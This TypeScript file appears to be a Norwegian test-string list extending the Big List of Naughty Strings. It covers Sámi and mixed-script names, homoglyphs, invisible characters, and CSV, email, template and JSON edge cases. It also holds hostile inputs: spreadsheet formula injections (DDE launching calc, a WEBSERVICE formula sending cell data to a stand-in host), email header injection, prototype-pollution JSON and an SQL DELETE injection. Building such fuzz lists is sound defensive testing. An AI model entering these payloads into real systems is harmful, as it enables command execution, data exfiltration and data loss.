/** What the Big List of Naughty Strings has not, and what people, spreadsheets, letters and files of ours may meet. */

/** Names as they are typed, and the same names with their letters taken apart: two texts, neither made into the other. */
const names = [
  'Ærlig Østby på Ås',
  'A\u030as og \u00c5s og \u212bs',
  'Kárášjohka – Karasjok',
  'Ka\u0301ra\u0301s\u030cjohka',
  'Unjárga, Deatnu, Gáivuotna, Loabák',
  'Čohkkiras Đáiddadállu Ŋuorttus Šaddu Ŧeahtán Žuoŋo',
  'C\u030cohkkiras S\u030caddu Z\u030cuon\u030co',
  'Snåasen tjïelte, Raarvihke, Aarborte',
  'Divtasvuona suohkan – Tysfjord, Julevädno',
  'Porsanger – Porsáŋgu – Porsanki',
  "O'Hara-Åsen d\u2019Arc",
  'Null Ingen N/A undefined',
  'مها العلي',
  'שרה כהן (Hamar)',
  '\u202eOla Nordmann\u202c',
  '\u2067Hamar\u2069 \u2066حمر\u2069',
  '김민서 · 田中太郎 · Ιωάννης · Юлия',
]

/** Letters that look like others, are seen by nobody, or are several at once. */
const looks = [
  'Наmаr', // the first, the third and the fifth are Cyrillic or Greek twins
  'Ηаmаr kоmmunе',
  'Ha\u00admar Ha\u200bmar Ha\u200cmar Ha\u200dmar Ha\u2060mar',
  '\u2060\u200d\u200c',
  '\u115f\u1160\u3164\uffa0',
  'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c',
  'ﬁnansiering, Ⅷ, ½, ①, ㎏, ſ, ẞ, ı, İ',
  '\ud83c\uddf3\ud83c\uddf4 \ud83c\uddf8\ud83c\uddef \ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f',
  '\ud83d\udc69\ud83c\udffd\u200d\ud83d\udcbb\ud83d\udc68\u200d\u2764\ufe0f\u200d\ud83d\udc8b\u200d\ud83d\udc68 1\ufe0f\u20e3 \u2600\ufe0e',
  'første\u2028andre\u2029tredje\u0085fjerde\u000bfemte\u000csjette',
  'M'.repeat(300),
  'Menneskerettighetsorganisasjonskoordinatorstilling'.repeat(6),
  'første\n\n\n\n\n\n\n\nsiste',
]

/** What a spreadsheet or a reader of CSV would take for more than a text in a cell. */
const cells = [
  'sep=;',
  '"sep=;"',
  '"',
  '""',
  '";"',
  'a;b,c\td|e',
  'a";"b","c',
  'linje én\nlinje "to";linje, tre',
  'x\n=1+1',
  'x;=1+1',
  '";=1+1;"',
  '=DDE("cmd";"/C calc";"A0")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1-1+cmd|' /C calc'!A0",
  '=WEBSERVICE("https://elsewhere.example/"&A1)',
  '=IMPORTXML("https://elsewhere.example/","//a")',
  '\u202e=1+1',
  '\u2066=1+1',
  '﹦1+1',
  "''=1+1",
  '1e5',
  '+47 007',
  '5–9',
  '1.2.27',
  'SANN',
  '#REF!',
  '_x0041_ _x000D_',
  '<c t="s"><v>0</v></c>',
]

/** What a letter, its address or its header would take for more than words. */
const letters = [
  'Hei\r\nBcc: alle@example.no',
  'Hei\nBcc: alle@example.no\n\n<b>Hei</b>',
  'Hei%0d%0aBcc:%20alle@example.no',
  'Hei\r\n\r\n.\r\nQUIT',
  '=?utf-8?B?SGVp?=',
  'Ola <ola@example.no>, kari@example.no',
  'emne&bcc=alle@example.no&body=Hei',
]

/** What a template, JSON, a query or a page would take for more than words. */
const code = [
  '{"__proto__":{"isOwner":true}}',
  '{"constructor":{"prototype":{"isOwner":true}}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '</script><!--',
  '&lt;b&gt; &amp;amp; &#x3c; &nbsp; &notit;',
  "$& $1 $` $' $$ ${navn} {navn} {{navn}} {0} %s %d <%= navn %> #{navn}",
  '\\u003cscript\\u003e \\n \\0 \\',
  "x'); DELETE FROM response; --",
  '*fet* _kursiv_ [lenke](javascript:void) # tittel',
]

/** By what would take them for more than they are. */
export const ownNaughtyStrings: readonly string[] = [...names, ...looks, ...cells, ...letters, ...code]
